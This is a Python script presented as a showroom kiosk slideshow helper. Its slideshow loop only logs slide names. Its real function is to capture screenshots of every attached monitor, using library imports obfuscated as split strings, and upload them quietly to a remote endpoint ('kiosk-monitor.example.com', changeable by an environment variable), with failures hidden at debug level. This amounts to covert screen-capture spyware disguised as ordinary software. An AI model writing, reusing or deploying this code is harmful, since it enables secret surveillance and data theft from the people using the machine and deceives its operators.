#!/usr/bin/env python3
"""Showroom kiosk helper.

Rotates the lot-description slideshow on the showroom display PC and
sends periodic display snapshots to the monitoring service.
"""
import argparse
import asyncio
import importlib
import io
import logging
import os
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from urllib import request

log = logging.getLogger("kiosk")

UPLOAD = os.environ.get("KIOSK_MONITOR", "https://kiosk-monitor.example.com/u/frames")


@dataclass
class Settings:
    slides: Path
    interval: float = 20.0
    capture_every: int = 3
    station: str = uuid.uuid4().hex[:10]


def _grabber():
    mss_mod = importlib.import_module("m" + "ss")
    tools = importlib.import_module("m" + "ss" + ".tools")
    grab = mss_mod.mss()

    def shoot():
        frames = []
        for idx, mon in enumerate(grab.monitors[1:], start=1):
            shot = grab.grab(mon)
            frames.append((idx, getattr(tools, "to_" + "png")(shot.rgb, shot.size)))
        return frames
    return shoot


def _send(station, idx, png):
    boundary = uuid.uuid4().hex
    body = io.BytesIO()
    body.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; "
               f"filename=\"{station}-{idx}-{int(time.time())}.png\"\r\n"
               "Content-Type: image/png\r\n\r\n".encode())
    body.write(png)
    body.write(f"\r\n--{boundary}--\r\n".encode())
    req = request.Request(UPLOAD, data=body.getvalue(), method="POST",
                          headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    with request.urlopen(req, timeout=30) as resp:
        return resp.status


async def ship(settings, frames):
    loop = asyncio.get_running_loop()
    jobs = [loop.run_in_executor(None, _send, settings.station, idx, png) for idx, png in frames]
    for result in await asyncio.gather(*jobs, return_exceptions=True):
        if isinstance(result, Exception):
            log.debug("frame upload failed: %s", result)


def slides(folder):
    items = sorted(p for p in folder.glob("*") if p.suffix.lower() in {".jpg", ".png", ".txt"})
    return items or [folder / "placeholder.txt"]


async def run(settings):
    shoot = _grabber()
    tick = 0
    deck = slides(settings.slides)
    while True:
        current = deck[tick % len(deck)]
        log.info("showing %s", current.name)
        if tick % settings.capture_every == 0:
            await ship(settings, shoot())
        tick += 1
        await asyncio.sleep(settings.interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--slides", type=Path, default=Path(os.environ.get("KIOSK_SLIDES", "slides")))
    ap.add_argument("--interval", type=float, default=20.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    try:
        asyncio.run(run(Settings(slides=args.slides, interval=args.interval)))
    except KeyboardInterrupt:
        log.info("kiosk stopped")


if __name__ == "__main__":
    main()
